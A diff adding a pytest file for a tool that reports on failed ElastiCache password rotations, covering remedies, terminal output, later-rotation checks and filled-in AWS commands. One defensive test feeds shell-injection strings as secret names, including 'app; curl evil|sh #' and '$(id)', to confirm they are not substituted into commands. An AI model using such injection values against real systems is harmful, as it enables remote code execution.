@@ -1,0 +1,243 @@
+"""What a run has left, what to do, and what has happened since."""
+
+import json
+from dataclasses import replace
+from datetime import datetime, timedelta
+from typing import Any
+
+import pytest
+from botocore.exceptions import ClientError
+from rich.console import Console
+
+from report import source
+from report.about import About
+from report.remedy import Remedy, remedy_of
+from report.run import Run
+from report.terminal import show, show_failure
+from tests.docs.test_troubleshooting import ENTRIES, causes_of, names_of
+from tests.report.recorded import recorded
+
+FAILED = recorded("both-passwords")
+#: The errors of docs/troubleshooting.md, by name.
+ERRORS = {
+    name.replace("*", "TooManyRequestsException"): entry
+    for heading, entry in ENTRIES.items()
+    for name in names_of(heading)
+}
+
+
+def remedy_for(run: Run) -> Remedy:
+    remedy = remedy_of(run)
+    assert remedy
+    return remedy
+
+
+def closed(name: str, output: str | None = None, **codes: object) -> Run:
+    """A recorded run whose Close Rotation had another output, or other codes."""
+    run = recorded(name)
+    [closing] = [visit for visit in run.top() if visit.name == "Close Rotation"]
+    state = json.loads(closing.output)
+    state["Closing"] |= codes
+    closing.output = json.dumps(state) if output is None else output
+    return run
+
+
+# -- what a run has left
+
+
+@pytest.mark.parametrize(
+    "name, current, pending, user, clients",
+    [
+        ("succeeded", "is version", "was removed", "", ""),
+        ("dry-run", "was not moved", "a dry run changes nothing", "", ""),
+        ("refused", "was not moved", "was removed", "was not changed", "not locked out"),
+        ("locked-out", "was not moved", "was removed", "was not changed", "LOCKED OUT"),
+        ("both-passwords", "was not moved", "was removed", "has the new", "not locked out"),
+        ("not-closed", "was not moved", "may be on", "may have the new password", "unknown"),
+        ("aborted", "was not moved", "start an execution", "may have the new password", "unknown"),
+    ],
+)
+def test_what_a_run_has_left_is_in_its_history(
+    name: str, current: str, pending: str, user: str, clients: str
+) -> None:
+    remedy = remedy_for(recorded(name))
+    left = (remedy.current, remedy.pending, remedy.user, remedy.clients)
+    for text, expected in zip(left, (current, pending, user, clients), strict=True):
+        assert expected in text
+        assert bool(expected) == bool(text)
+
+
+@pytest.mark.parametrize(
+    "codes, field, expected",
+    [
+        ({"Promoted": True}, "current", "which this run has set"),
+        ({"Pending": "KEPT"}, "pending", "could not be taken off"),
+        ({"User": "FIRST_PASSWORD"}, "user", "has its first password"),
+        # Codes of another release.
+        ({"Pending": "LOST"}, "pending", "is unknown"),
+        ({"Clients": "ALIVE"}, "clients", "Clients: unknown (Close Rotation has not verified it)"),
+        ({"User": "GONE"}, "user", "is unknown"),
+    ],
+)
+def test_the_codes_of_close_rotation_count(
+    codes: dict[str, object], field: str, expected: str
+) -> None:
+    assert expected in getattr(remedy_for(closed("both-passwords", **codes)), field)
+
+
+@pytest.mark.parametrize("output", ["", "null", "[]", "no JSON", "{}", '{"Closing": {}}'])
+def test_without_codes_it_is_unknown(output: str) -> None:
+    remedy = remedy_for(closed("both-passwords", output))
+    assert remedy.clients == "Clients: unknown (Close Rotation has not verified it)"
+    assert remedy.pending.startswith("may be")
+
+
+@pytest.mark.parametrize(
+    "codes, current",
+    [
+        ({"Pending": "REMOVED"}, "was not moved"),
+        ({"Pending": "KEPT"}, "may be "),
+        ({"Promoted": None}, "may be "),
+    ],
+)
+def test_a_promotion_without_an_answer_may_have_taken_effect(
+    codes: dict[str, object], current: str
+) -> None:
+    run = closed("both-passwords", **codes)
+    run.visits.append(replace(run.top()[-1], name="Promote Version", outcome="caught"))
+    assert current in remedy_for(run).current
+
+
+@pytest.mark.parametrize(
+    "name, values, secret",
+    [
+        ("succeeded", 3, "the new password is in 3 values"),
+        ("dry-run", 1, "the new password would be in 1 value"),
+        ("both-passwords", 2, "the new password would be in 2 values"),
+    ],
+)
+def test_the_report_has_what_a_run_does_to_the_secret_and_does_not_test(
+    name: str, values: int, secret: str
+) -> None:
+    run = recorded(name)
+    for visit in run.top():
+        if visit.name in ("Check Target", "Find Endpoints", "Find Endpoints Again"):
+            state = json.loads(visit.output)
+            state["Target"]["ChangedValues"] = values
+            if "Network" in state:
+                state["Network"]["NotTested"] = ["far", "off"]
+            visit.output = json.dumps(state)
+    console = Console(width=100)
+    with console.capture() as captured:
+        show(run, remedy_of(run), console)
+    assert f"the secret  {secret}\n" in captured.get()
+    assert "not tested  far, off\n" in captured.get()
+
+
+# -- what is on the first screen
+
+
+@pytest.mark.parametrize("name", ERRORS)
+def test_the_first_screen_of_a_terminal_has_the_cause_and_what_to_do(name: str) -> None:
+    """Of each error, with the longest cause that docs/troubleshooting.md quotes."""
+    cause = max(causes_of(ERRORS[name]), key=len)
+    run = replace(recorded("locked-out"), error=name, cause=cause)
+    if name in ("ABORTED", "TIMED_OUT"):
+        run = replace(recorded("aborted"), status=name, error="")
+    console = Console(width=80, highlight=False, markup=False, emoji=False)
+    with console.capture() as captured:
+        show(run, remedy_of(run), console)
+    first = lines(captured.get())[:23]
+    assert [line.partition(":")[0] for line in first[:2]] == ["Clients", "Since then"]
+    assert first[2].startswith((f"FAILED {name}", name))
+    assert any(line.startswith("What to do (") for line in first)
+    assert any(line.startswith("aws ") for line in first)
+    # Below it, `python -m local rotate` prints three lines, and the shell its prompt.
+    with console.capture() as captured:
+        show_failure(run, remedy_of(run), console)
+    assert len(lines(captured.get())) + 4 <= 24
+
+
+def lines(printed: str) -> list[str]:
+    """As an 80-column terminal breaks them."""
+    return [
+        line[at : at + 80] for line in printed.splitlines() for at in range(0, len(line) or 1, 80)
+    ]
+
+
+# -- what has happened since
+
+
+class Secrets:
+    def __init__(self, **described: Any) -> None:
+        self.described = described
+
+    def describe_secret(self, *, SecretId: str) -> dict[str, Any]:
+        assert SecretId.startswith("arn:aws:secretsmanager:us-east-1:123456789012:secret:")
+        if not self.described:
+            answer = {"Code": "AccessDeniedException", "Message": "No."}
+            raise ClientError({"Error": answer}, "DescribeSecret")
+        return self.described
+
+
+ABOUT = About.of(FAILED)
+FOUND, MADE = (ABOUT.target[key] for key in ("CurrentVersionId", "VersionId"))
+LATER, EARLIER = FAILED.stopped + timedelta(hours=6), FAILED.started - timedelta(days=30)
+
+
+def labeled(current: str, rotated: datetime | None = None) -> Secrets:
+    versions = {"other": ["AWSPREVIOUS"], current: ["AWSCURRENT"]}
+    return Secrets(VersionIdsToStages=versions, LastRotatedDate=rotated)
+
+
+@pytest.mark.parametrize(
+    "about, secrets, expected",
+    [
+        (ABOUT, labeled("x", LATER), "a rotation has succeeded, at 2026-11-26 02:48 UTC"),
+        (ABOUT, labeled("x", EARLIER), "AWSCURRENT was moved, to x, by a run by hand or a person"),
+        (ABOUT, labeled(FOUND, EARLIER), "no rotation has succeeded"),
+        (ABOUT, labeled(MADE, EARLIER), f"AWSCURRENT is version {MADE}, which this run made"),
+        (ABOUT, labeled(FOUND), "no rotation has succeeded"),
+        (ABOUT, Secrets(DeletedDate=LATER), "the secret was marked for deletion"),
+        # Without the permission:
+        (ABOUT, Secrets(), "unknown (DescribeSecret: AccessDeniedException: No.)"),
+        # The run has not seen the labels:
+        (
+            About("", ABOUT.secret, {}),
+            labeled("x"),
+            "no rotation of Secrets Manager has succeeded; a run by hand may have",
+        ),
+        (About("arn", "", {}), Secrets(), "unknown (the run names no secret)"),
+    ],
+)
+def test_whether_a_later_rotation_succeeded_is_in_the_secret(
+    about: About, secrets: Secrets, expected: str
+) -> None:
+    assert source.since(about, FAILED, secrets) == f"Since then: {expected}"
+
+
+# -- which run it was
+
+
+def test_a_run_is_identified_by_secret_user_and_place() -> None:
+    assert ABOUT.line == (
+        "secret production/sessions/app of user app, account 123456789012, us-east-1"
+    )
+    assert ABOUT.console.startswith("https://us-east-1.console.aws.amazon.com/states/")
+    assert ABOUT.filled("--secret-id SECRET_NAME USER_ARN MACHINE_ARN STACK_NAME CACHE") == (
+        "--secret-id production/sessions/app arn:aws:elasticache:us-east-1:123456789012:user:app "
+        "arn:aws:states:us-east-1:123456789012:stateMachine:elasticache-rotation-rotation "
+        "elasticache-rotation sessions"
+    )
+
+
+@pytest.mark.parametrize(
+    "secret", ["", "app; curl evil|sh #", "$(id)", "a\x1b]0;b", "--output", "a b"]
+)
+def test_what_is_unknown_or_more_than_a_name_in_a_shell_is_not_filled_in(secret: str) -> None:
+    command = "aws x --secret-id SECRET_NAME USER_ID"
+    assert About("", secret, {}).filled(command) == command
+
+
+def test_a_run_that_has_just_started_is_about_nothing() -> None:
+    assert About.of(Run(visits=FAILED.visits[:1])) == About("", "", {})
